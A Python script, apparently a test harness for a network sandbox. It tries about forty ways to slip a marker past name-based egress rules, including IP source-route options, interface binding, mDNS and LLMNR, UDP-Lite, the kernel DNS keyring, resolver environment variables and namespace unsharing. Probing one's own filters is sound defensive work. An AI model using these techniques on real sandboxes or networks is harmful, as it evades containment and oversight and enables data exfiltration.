"""Ways around rules by name and the resolver, each tried with a mark in what it sends.

In:  a network device "front". Out: one line of JSON: by way what came of it, "sent" where the kernel took it.
"""
import ctypes, json, os, socket, struct, sys

MARK = b"SMUGGLED"
DNS, DNS6 = ("8.8.8.8", 53), ("2001:4860:4860::8888", 53)
ALLOWED, OTHER, OTHER6 = "203.0.113.80", "203.0.113.81", "2001:db8:2::80"
IP_OPTIONS, IP_RETOPTS, IP_PKTINFO, IP_UNICAST_IF = 4, 7, 8, 50
IPV6_UNICAST_IF, IPV6_PKTINFO, IPV6_RTHDR = 76, 50, 57
SO_BINDTODEVICE, UDPLITE, AF_UNSPEC = 25, 136, 0
PORT = 45454
libc = ctypes.CDLL(None, use_errno=True)
INDEX = socket.if_nametoindex("front")


def udp(family=socket.AF_INET):
    return socket.socket(family, socket.SOCK_DGRAM)


def way(kind, before=b""):
    options = before + bytes([kind, 7, 4]) + socket.inet_aton(OTHER)
    return options + bytes(-len(options) % 4)


def segments():
    final, first = (socket.inet_pton(socket.AF_INET6, address) for address in (DNS6[0], OTHER6))
    return struct.pack(">BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + final + first


def with_options(options, to=DNS, family=socket.AF_INET):
    s = udp(family)
    s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, options)
    s.sendto(MARK, to)


def connected_options():
    s = udp()
    s.connect(DNS)
    s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, way(131))
    s.send(MARK)


def tcp_options():
    s = socket.socket()
    s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, way(131))
    s.settimeout(0.5)
    s.connect(DNS)


def with_message(control, to=DNS, family=socket.AF_INET):
    udp(family).sendmsg([MARK], [control], 0, to)


def routing_header():
    s = udp(socket.AF_INET6)
    s.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, segments())
    s.sendto(MARK, DNS6)


def by_device(family, to):
    s = udp(family)
    s.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, b"front\0")
    s.sendto(MARK, to)


def by_unicast(family, level, option, to):
    s = udp(family)
    s.setsockopt(level, option, struct.pack(">I", INDEX))
    s.sendto(MARK, to)


def port_0():
    address = socket.getaddrinfo("api.example.test", 8080, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
    s = udp()
    s.connect((address, 0))
    s.send(MARK)


def reused():
    s = udp()
    s.connect(DNS)
    s.sendto(MARK, (OTHER, PORT))


def connected_again():
    s = udp()
    s.connect(DNS)
    try:
        s.connect((OTHER, PORT))
    finally:
        s.send(MARK)


def corked():
    s = udp()
    s.sendto(MARK, socket.MSG_MORE, DNS)
    s.sendto(MARK, (OTHER, PORT))


def unspecified():
    to = struct.pack("=H", AF_UNSPEC) + struct.pack(">H", PORT) + socket.inet_aton(OTHER) + bytes(8)
    s = udp()
    if libc.sendto(s.fileno(), MARK, len(MARK), 0, to, len(to)) < 0:
        raise OSError(ctypes.get_errno(), "")


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]


class Header(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("name_length", ctypes.c_uint), ("vector", ctypes.POINTER(Vector)), ("vectors", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t), ("flags", ctypes.c_size_t), ("sent", ctypes.c_size_t)]


def many():
    """The first goes to a DNS server, which is led; the second has to be judged for itself."""
    to = [struct.pack("=H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(address) + bytes(8) for address, port in (DNS, (OTHER, PORT))]
    vector = Vector(MARK, len(MARK))
    headers = (Header * 2)(*(Header(name, len(name), ctypes.pointer(vector), 1, None, 0, 0, 0) for name in to))
    s = udp()
    if libc.sendmmsg(s.fileno(), headers, 2, 0) < 2:
        raise PermissionError(1, "")


def datagram(to, family=socket.AF_INET, *options):
    s = udp(family)
    for option in options:
        s.setsockopt(*option)
    s.sendto(MARK, to)


def lite(to):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, UDPLITE).sendto(MARK, to)


def stream(to):
    s = socket.create_connection(to, 5)
    s.sendall(MARK)
    s.settimeout(0.5)
    if not s.recv(1):
        raise ConnectionResetError()


def resolver_itself():
    """The sockets of the resolver, found as anybody can: what was not led there is not heard."""
    listening = [line.split() for path in ("/proc/net/udp", "/proc/net/udp6") for line in open(path).readlines()[1:]]
    ports = {int(words[1].rsplit(":", 1)[1], 16) for words in listening}
    query = b"\x12\x34\x01\0\0\1" + bytes(6) + b"\x03api\x07example\x04test\0\0\1\0\1"
    s = udp()
    s.settimeout(0.5)
    for port in ports:
        s.sendto(query, ("127.0.0.1", port))
    try:
        s.recv(512)
    except TimeoutError:
        raise PermissionError(1, "")


def keyring():
    """The kernel looks names up for key types; a helper of root's would ask."""
    if libc.syscall(249, b"dns_resolver", b"SMUGGLED.other.test", b"", 0) < 0:
        raise PermissionError(1, "")


def family(number, kind=socket.SOCK_DGRAM, protocol=0):
    socket.socket(number, kind, protocol)


def looked_up(name, **environment):
    """As a program of its own: the library reads its environment as it starts."""
    with open("aliases", "w") as file:
        file.write("nick SMUGGLED.other.test\n")
    code = f"import socket; socket.getaddrinfo('{name}', 80)"
    if os.spawnve(os.P_WAIT, sys.executable, [sys.executable, "-c", f"import sys; sys.stderr = None\n{code}"], {**os.environ, **environment}):
        raise PermissionError(1, "")


def hosts_of_its_own():
    if libc.unshare(0x10000000 | 0x00020000) < 0:
        raise PermissionError(1, "")


IP, IP6 = socket.IPPROTO_IP, socket.IPPROTO_IPV6
BROADCAST = (socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
SIX = socket.AF_INET6
WAYS = {
    "loose route": lambda: with_options(way(131)),
    "strict route": lambda: with_options(way(137)),
    "route behind other options": lambda: with_options(way(131, b"\1\1\x07\x07\x04\0\0\0\0\1")),
    "route of an allowed address": lambda: with_options(way(131), (ALLOWED, PORT)),
    "route of a mapped address": lambda: with_options(way(131), ("::ffff:8.8.8.8", 53), SIX),
    "route once connected": connected_options,
    "route of a connection": tcp_options,
    "route of one datagram": lambda: with_message((IP, IP_RETOPTS, way(131))),
    "routing header": routing_header,
    "device": lambda: by_device(socket.AF_INET, DNS),
    "device over IPv6": lambda: by_device(SIX, DNS6),
    "device of one datagram": lambda: with_message((IP, IP_PKTINFO, struct.pack("=I4s4s", INDEX, bytes(4), bytes(4)))),
    "device of one datagram over IPv6": lambda: with_message((IP6, IPV6_PKTINFO, bytes(16) + struct.pack("=I", INDEX)), DNS6, SIX),
    "device for unicast": lambda: by_unicast(socket.AF_INET, IP, IP_UNICAST_IF, DNS),
    "device for unicast over IPv6": lambda: by_unicast(SIX, IP6, IPV6_UNICAST_IF, DNS6),
    "port 0": port_0,
    "another address through a led socket": reused,
    "another connection of a led socket": connected_again,
    "corked": corked,
    "address of no family": unspecified,
    "sendmmsg": many,
    "mDNS": lambda: datagram(("224.0.0.251", 5353)),
    "LLMNR": lambda: datagram(("224.0.0.252", 5355)),
    "mDNS over IPv6": lambda: datagram(("ff02::fb", 5353, 0, INDEX), SIX),
    "DNS by broadcast": lambda: datagram(("192.0.2.255", 53), socket.AF_INET, BROADCAST),
    "DNS by multicast": lambda: datagram(("ff02::1", 53, 0, INDEX), SIX),
    "DNS of a neighbour": lambda: datagram(("fe80::1", 53, 0, INDEX), SIX),
    "UDP-Lite to DNS": lambda: lite(DNS),
    "UDP-Lite": lambda: lite((OTHER, PORT)),
    "port 53 of an allowed address": lambda: stream((ALLOWED, 53)),
    "resolver itself": resolver_itself,
    "keyring": keyring,
    "RxRPC": lambda: family(33, socket.SOCK_DGRAM, 2),
    "SMC": lambda: family(43, socket.SOCK_STREAM),
    "HOSTALIASES": lambda: looked_up("nick", HOSTALIASES="aliases"),
    "LOCALDOMAIN": lambda: looked_up("SMUGGLED", LOCALDOMAIN="other.test"),
    "RES_OPTIONS": lambda: looked_up("SMUGGLED.other.test", RES_OPTIONS="use-vc ndots:9 edns0"),
    "a hosts file of its own": hosts_of_its_own,
}


def tried(do):
    try:
        do()
        return "sent"
    except OSError as error:
        return type(error).__name__


print(json.dumps({name: tried(do) for name, do in WAYS.items()}))
